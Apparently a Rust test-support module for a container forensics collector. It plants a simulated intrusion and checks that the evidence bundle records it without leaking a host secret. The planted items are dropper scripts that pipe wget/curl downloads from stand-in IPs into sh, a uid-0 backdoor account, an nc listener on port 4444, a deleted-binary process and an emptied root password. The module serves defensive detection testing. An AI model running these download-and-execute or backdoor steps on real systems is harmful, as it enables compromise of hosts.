//! The attack every collection test plants, whatever the runtime (podman, containerd through the
//! CRI, dockerd), and what a responder checks in the bundle afterwards: one plant routine, one set
//! of assertions (issue 12: "the same attack the podman e2e test plants").
//!
//! Planted: a dropped executable script, a uid-0 user, a deleted binary still running, a
//! listener on 4444, symlinks to a host secret, a FIFO, a name with a newline, symlink loops and
//! a script in `/dev/shm`. The node-side change to a lower layer is [`tamper_lower_layer`].

use crate::util::*;
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Content of a host file the container links to; it must never reach the bundle.
pub const SECRET: &str = "HOST-SECRET-7f3a9c1e-never-in-a-bundle";
/// The dropped script's exact bytes.
pub const DROPPER: &[u8] = b"#!/bin/sh\nwget -q -O- http://203.0.113.7/stage2 | sh\n";
/// The script dropped in `/dev/shm` (a tmpfs mount in every runtime, outside the layers).
pub const SHM_SCRIPT: &[u8] = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n";
/// Where [`SHM_SCRIPT`] is planted.
pub const SHM_PATH: &str = "/dev/shm/payload.sh";
/// The node-side change to the image's layer: root's password emptied.
pub const SHADOW_ON_NODE: &str = "root::19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n";

/// A running container the attacker works in, through its runtime's exec.
pub trait Victim {
    /// Runs `sh -c SCRIPT` in the container and waits for it (failure panics).
    fn sh(&self, script: &str);
    /// Starts `sh -c SCRIPT` in the container in the background.
    fn spawn(&self, script: &str);
    /// The host PID of the container's main process.
    fn pid(&self) -> u32;
}

/// PIDs in `pid`'s PID namespace, from the host's /proc.
pub fn pids_in_namespace_of(pid: u32) -> Vec<u32> {
    let ns = std::fs::read_link(format!("/proc/{pid}/ns/pid")).unwrap();
    let mut pids: Vec<u32> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .filter(|p: &u32| std::fs::read_link(format!("/proc/{p}/ns/pid")).is_ok_and(|n| n == ns))
        .collect();
    pids.sort();
    pids
}

/// Waits until `check` holds (background processes need a moment to start); 30 s at most.
pub fn wait_for(what: &str, check: impl Fn() -> bool) {
    let end = Instant::now() + Duration::from_secs(30);
    while !check() {
        assert!(Instant::now() < end, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Whether `/proc/PID/net/tcp{,6}` (the container's network namespace) holds a listener on `port`.
pub fn listening(pid: u32, port: u16) -> bool {
    let local = format!(":{port:04X}");
    ["tcp", "tcp6"].iter().any(|f| {
        std::fs::read_to_string(format!("/proc/{pid}/net/{f}"))
            .unwrap_or_default()
            .lines()
            .skip(1)
            .any(|l| {
                let f: Vec<&str> = l.split_whitespace().collect();
                f.len() > 3 && f[1].ends_with(&local) && f[3] == "0A"
            })
    })
}

/// What the attack left on the host: the secret file, removed on drop.
pub struct Planted {
    /// The host secret the container's symlinks point at.
    pub secret: PathBuf,
}

impl Drop for Planted {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.secret);
    }
}

/// Plays the attacker in `victim`; `tag` makes the host secret's name unique.
pub fn plant(victim: &impl Victim, tag: &str) -> Planted {
    // A host secret the container points a symlink at (absolute: resolved against whoever follows it).
    let secret = PathBuf::from(format!("/root/forensic-e2e-secret-{tag}"));
    std::fs::write(&secret, SECRET).unwrap();
    let planted = Planted { secret };
    let dropper = std::str::from_utf8(DROPPER).unwrap();
    let shm = std::str::from_utf8(SHM_SCRIPT).unwrap();
    victim.sh(&format!(
        "printf '%s' '{dropper}' > /tmp/dropper.sh && chmod 755 /tmp/dropper.sh \
         && echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd \
         && rm /etc/motd \
         && ln -s {secret} /tmp/secret-link && ln -s /etc/../../../../{secret} /var/tmp/escape-link \
         && mkfifo /tmp/trap.fifo \
         && touch '/tmp/new\nline' \
         && ln -s loop-b /tmp/loop-a && ln -s loop-a /tmp/loop-b \
         && printf '%s' '{shm}' > {SHM_PATH} && chmod 755 {SHM_PATH} \
         && mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && chmod 755 /tmp/.x/sleep",
        secret = planted.secret.display(),
    ));
    let pid = victim.pid();
    victim.spawn("exec nc -l -p 4444");
    // Busybox picks its applet from argv[0]: a copy named `sleep` runs as sleep.
    victim.spawn("exec /tmp/.x/sleep 100000");
    wait_for("the listener and the ghost process", || {
        listening(pid, 4444)
            && pids_in_namespace_of(pid)
                .iter()
                .any(|p| std::fs::read_link(format!("/proc/{p}/exe")).is_ok_and(|e| e == Path::new("/tmp/.x/sleep")))
    });
    victim.sh("rm /tmp/.x/sleep");
    planted
}

/// The container's overlay lower directories (top first), from its root mount in
/// `/proc/PID/mountinfo`: the same for podman, containerd and dockerd.
pub fn lower_dirs(pid: u32) -> Vec<PathBuf> {
    let info = std::fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
    let root = info
        .lines()
        .find(|l| l.split(' ').nth(4) == Some("/") && l.contains(" - overlay "))
        .unwrap_or_else(|| panic!("no overlay root mount for pid {pid}:\n{info}"));
    let options = root.rsplit(' ').next().unwrap();
    let lower = options
        .split(',')
        .find_map(|o| o.strip_prefix("lowerdir="))
        .unwrap_or_else(|| panic!("no lowerdir in {root}"));
    lower.split(':').map(PathBuf::from).collect()
}

/// The node-side change: `/etc/shadow` rewritten ([`SHADOW_ON_NODE`]) in the node's copy of the
/// image layer that holds it, from the host, while the container runs. Returns the file changed.
pub fn tamper_lower_layer(pid: u32) -> PathBuf {
    let lowers = lower_dirs(pid);
    let shadow = lowers
        .iter()
        .map(|l| l.join("etc/shadow"))
        .find(|p| p.is_file())
        .unwrap_or_else(|| panic!("no lower layer holds etc/shadow: {lowers:?}"));
    std::fs::write(&shadow, SHADOW_ON_NODE).unwrap();
    shadow
}

/// Runs `forensic collect ARGS` with environment `env` and a watchdog: a hang fails the test
/// instead of stalling CI.
pub fn collect_with_watchdog(args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
    let mut collect = forensic();
    collect.arg("collect").args(args).envs(env.iter().copied());
    output_with_watchdog(&mut collect, "forensic collect")
}

/// Runs `command` to completion, capturing its output; killed after 600 s, and the test fails.
pub fn output_with_watchdog(command: &mut Command, what: &str) -> std::process::Output {
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let end = Instant::now() + Duration::from_secs(600);
    loop {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        if Instant::now() > end {
            let _ = child.kill();
            panic!("{what} hung (killed after 600 s)");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Unzips `bundle` into `into` with Info-ZIP's `unzip` (an independent reader).
pub fn unzip(bundle: &Path, into: &Path) {
    let o = Command::new("unzip")
        .args(["-q", bundle.to_str().unwrap(), "-d", into.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(o.status.success(), "unzip: {}", String::from_utf8_lossy(&o.stderr));
}

/// A JSON file.
pub fn read_json(p: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))).unwrap()
}

/// A JSON-lines file.
pub fn jsonl(p: &Path) -> Vec<Value> {
    std::fs::read_to_string(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Every file under `dir`, recursively (for the secret search).
fn all_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let t = e.file_type().unwrap();
        if t.is_dir() {
            all_files(&e.path(), out);
        } else if t.is_file() {
            out.push(e.path());
        }
    }
}

/// What a responder checks after collecting from the attacked container whose main process is
/// `pid`: the bundle verifies, its sections are in order, the host secret is nowhere, and every
/// planted item is found. Returns the directory the bundle was unzipped into.
pub fn check_bundle(work: &Path, bundle: &Path, planted: &Planted, pid: u32) -> PathBuf {
    let b = bundle.to_str().unwrap();
    let o = run(&["verify", b]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));

    let o = run(&["ls", b, "--json"]);
    let listing = json(&o);
    let sections: Vec<&str> = listing["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["section"].as_str().unwrap())
        .collect();
    let mut sorted = sections.clone();
    sorted.sort_by_key(|s| forensic_bundle::section::Section::from_name(s).unwrap());
    assert_eq!(sections, sorted, "members are in the order of volatility");

    let raw = std::fs::read(bundle).unwrap();
    assert!(
        !raw.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
        "the host secret is in the raw bundle"
    );
    let x = work.join(format!("x-{}", bundle.file_stem().unwrap().to_string_lossy()));
    unzip(bundle, &x);
    let mut files = Vec::new();
    all_files(&x, &mut files);
    for f in &files {
        let content = std::fs::read(f).unwrap();
        assert!(
            !content.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
            "host secret in {}",
            f.display()
        );
    }

    // 1: the deleted binary: flagged, hashed and copied.
    // The deleted binary is the image's busybox (its applets are links to it): the host's copy,
    // hashed by sha256sum, is the oracle for every digest of it in the bundle.
    let busybox_sha = sha256sum(&crate::rootfs::host_busybox());
    let procs = read_json(&x.join("1-processes/processes.json"));
    let ghost = procs
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["exe_deleted"] == true)
        .expect("a process runs a deleted binary");
    assert_eq!(ghost["exe"], "/tmp/.x/sleep", "{ghost}");
    assert_eq!(ghost["exe_sha256"], busybox_sha.as_str());
    let copy = x.join(format!("1-processes/{}/exe", ghost["pid"]));
    assert_eq!(sha256sum(&copy), busybox_sha, "the deleted binary's copy");
    assert!(
        ghost["flags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f == "deleted-executable"),
        "{ghost}"
    );

    // 2: the listening socket, decoded, with its owning process.
    let sockets = read_json(&x.join("2-network/sockets.json"));
    let listener = sockets["inet"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["state"] == "LISTEN" && s["local"].as_str().unwrap().ends_with(":4444"))
        .unwrap_or_else(|| panic!("no listener on 4444: {sockets}"));
    let owner = &listener["owners"][0];
    assert!(
        owner["cmdline"].as_str().unwrap().contains("nc -l -p 4444"),
        "{listener}"
    );

    // 5: the dropped file byte for byte; the upper layer's changes including the deletion.
    assert_eq!(
        std::fs::read(x.join("5-filesystem/root/tmp/dropper.sh")).unwrap(),
        DROPPER
    );
    let changes = jsonl(&x.join("5-filesystem/upper-changes.jsonl"));
    let change = |p: &str| {
        changes
            .iter()
            .find(|c| c["path"] == p)
            .map(|c| c["change"].as_str().unwrap().to_string())
    };
    assert_eq!(change("/etc/motd").as_deref(), Some("deleted"), "{changes:?}");
    assert_eq!(change("/etc/passwd").as_deref(), Some("modified"));
    assert_eq!(change("/tmp/dropper.sh").as_deref(), Some("added"));
    let passwd = std::fs::read_to_string(x.join("5-filesystem/upper/etc/passwd")).unwrap();
    assert!(passwd.ends_with("backdoor:x:0:0::/root:/bin/sh\n"), "{passwd}");
    // The symlinks are recorded as links, with their targets, and never followed.
    let index = jsonl(&x.join("5-filesystem/tree-index.jsonl"));
    let link = index
        .iter()
        .find(|e| e["path"] == "/tmp/secret-link")
        .expect("the symlink is indexed");
    assert_eq!(link["type"], "symlink");
    let image_busybox = index
        .iter()
        .find(|e| e["path"] == "/bin/busybox")
        .expect("the image's busybox is indexed");
    assert_eq!(
        (&image_busybox["type"], &image_busybox["sha256"]),
        (&Value::from("file"), &Value::from(busybox_sha.as_str())),
        "{image_busybox}"
    );
    assert_eq!(link["symlink_target"], planted.secret.display().to_string());
    assert!(link["sha256"].is_null());
    // The FIFO is recorded, never opened (collection finished: no hang).
    let fifo = index
        .iter()
        .find(|e| e["path"] == "/tmp/trap.fifo")
        .expect("the FIFO is indexed");
    assert_eq!(fifo["type"], "fifo");
    assert!(
        index.iter().any(|e| e["path"] == "/tmp/new\nline"),
        "the name with a newline is indexed"
    );
    let tmp_exec = std::fs::read_to_string(x.join("5-filesystem/derived/tmp-executables.txt")).unwrap();
    assert!(tmp_exec.lines().any(|l| l == "/tmp/dropper.sh"), "{tmp_exec}");

    // 6: the normalized record names the container's main process.
    let record = read_json(&x.join("6-podspec/container.json"));
    assert_eq!(record["pid"], pid);
    x
}

/// The `/dev/shm` script (issue 12): in the tree index with its digest, in `show suspicious`
/// and in the timeline. `x` is the unzipped bundle [`check_bundle`] returned.
pub fn check_shm_script(bundle: &Path, x: &Path) {
    let b = bundle.to_str().unwrap();
    let index = jsonl(&x.join("5-filesystem/tree-index.jsonl"));
    let entry = index
        .iter()
        .find(|e| e["path"] == SHM_PATH)
        .unwrap_or_else(|| panic!("{SHM_PATH} is not in the tree index"));
    assert_eq!(entry["type"], "file", "{entry}");
    assert_eq!(
        entry["sha256"],
        forensic_bundle::digest::Digest::of(SHM_SCRIPT).hex().as_str(),
        "{entry}"
    );

    let o = run(&["show", b, "suspicious", "--json"]);
    assert_eq!(code(&o), 0, "show suspicious: {}", stderr(&o));
    let sus = json(&o);
    let found = sus["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "executable-in-temp-dir" && f["message"].as_str().unwrap().contains(SHM_PATH));
    assert!(
        found.is_some(),
        "no executable-in-temp-dir finding on {SHM_PATH}: {sus:#}"
    );

    let o = run(&["timeline", b, "--format", "jsonl"]);
    assert_eq!(code(&o), 0, "timeline: {}", stderr(&o));
    let events: Vec<Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(
        events
            .iter()
            .any(|e| e["source"] == "file" && e.to_string().contains(SHM_PATH)),
        "no file event of {SHM_PATH} in the timeline"
    );
}

/// What "leave no trace" compares: every entry's stat under the container's root (atime
/// included) and the processes in its PID namespace.
pub struct Untouched {
    pid: u32,
    stat: BTreeMap<String, String>,
    pids: Vec<u32>,
}

impl Untouched {
    /// The container of main process `pid` as it is now (a first walk settles relatime on
    /// directories).
    pub fn take(pid: u32) -> Untouched {
        let pids = pids_in_namespace_of(pid);
        let _ = stat_tree(pid);
        Untouched {
            pid,
            stat: stat_tree(pid),
            pids,
        }
    }

    /// Panics unless the container is as it was. Known limit: reading a symlink's target
    /// (readlink) updates the link's own atime and Linux has no O_NOATIME for it; every other
    /// field of a symlink, and everything of every other entry, atime included, must be
    /// unchanged; no entry appears or disappears.
    pub fn assert_unchanged(&self) {
        let after = stat_tree(self.pid);
        assert_eq!(
            pids_in_namespace_of(self.pid),
            self.pids,
            "processes appeared in the container"
        );
        let paths = |t: &BTreeMap<String, String>| t.keys().cloned().collect::<Vec<_>>();
        assert_eq!(paths(&after), paths(&self.stat), "entries appeared or disappeared");
        let without_atime = |l: &str| l.split_once(' ').map(|(_, rest)| rest.to_string());
        let changed: Vec<String> = self
            .stat
            .iter()
            .filter(|(path, before)| {
                let now = &after[*path];
                now != *before && !(now.ends_with(" l") && without_atime(now) == without_atime(before))
            })
            .map(|(path, before)| format!("{path}: {before} -> {}", after[path]))
            .collect();
        assert_eq!(changed, Vec::<String>::new(), "collection changed entries");
    }
}

/// `path → "atime mtime ctime size mode type"` of every entry of the container's root
/// filesystem, from the host, without reading any file (lstat only). Mount points of other
/// filesystems (`/proc`, `/sys`, `/dev/shm`, bind-mounted `/etc/hosts`, …) are left out: their
/// times are the kernel's or the host's, which change with activity elsewhere on the node. Panics if `find` fails or the listing does
/// not hold the image's `/bin/busybox`: two empty snapshots would compare equal.
pub fn stat_tree(pid: u32) -> BTreeMap<String, String> {
    // The trailing slash: the tree behind the (procfs) link, not the link itself.
    let root = format!("/proc/{pid}/root/");
    let o = Command::new("find")
        .args([root.as_str(), "-xdev", "-printf", "%P\\0%D %A@ %T@ %C@ %s %m %y\\0"])
        .output()
        .expect("find (findutils) runs");
    assert!(
        o.status.success(),
        "find {root} failed ({}): {}",
        o.status,
        String::from_utf8_lossy(&o.stderr)
    );
    let fields: Vec<String> = o
        .stdout
        .strip_suffix(b"\0")
        .unwrap_or_default()
        .split(|b| *b == 0)
        .map(|x| String::from_utf8_lossy(x).into_owned())
        .collect();
    assert_eq!(fields.len() % 2, 0, "find printed an odd number of fields");
    let device = |stat: &str| stat.split_once(' ').map(|(d, _)| d.to_string());
    let root_device = fields
        .chunks(2)
        .find(|c| c[0].is_empty())
        .and_then(|c| device(&c[1]))
        .expect("find lists the root");
    let all: BTreeMap<String, String> = fields.chunks(2).map(|c| (c[0].clone(), c[1].clone())).collect();
    assert_eq!(all.len() * 2, fields.len(), "find listed a path twice");
    let tree: BTreeMap<String, String> = all
        .into_iter()
        .filter(|(_, stat)| device(stat).as_ref() == Some(&root_device))
        .map(|(path, stat)| (path, stat.split_once(' ').unwrap().1.to_string()))
        .collect();
    assert!(
        tree.get("bin/busybox").is_some_and(|l| l.ends_with(" f")),
        "the snapshot of {root} has no bin/busybox ({} entries)",
        tree.len()
    );
    tree
}

/// `forensic diff BUNDLE --image IMAGE --json` finds the node-side change of
/// [`tamper_lower_layer`] (the node's copy of the layer no longer matches the image) and the
/// planted account and dropper: exit 3, differences found (README's exit-code table).
pub fn check_diff_image(bundle: &Path, image: &Path) {
    let o = run(&["diff", s(bundle), "--image", s(image), "--json"]);
    assert_eq!(code(&o), 3, "diff --image: {}{}", stdout(&o), stderr(&o));
    let v = json(&o);
    let findings: Vec<(String, String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or_default().to_string();
            (s("severity"), s("kind"), s("path"))
        })
        .collect();
    for expected in [
        ("high", "lower-layer-changed", "/etc/shadow"),
        ("critical", "empty-password", "/etc/shadow"),
        ("critical", "uid0-user-added", "/etc/passwd"),
        ("high", "tmp-executable", "/tmp/dropper.sh"),
    ] {
        let expected = (expected.0.to_string(), expected.1.to_string(), expected.2.to_string());
        assert!(findings.contains(&expected), "{expected:?} not in {findings:#?}");
    }
}
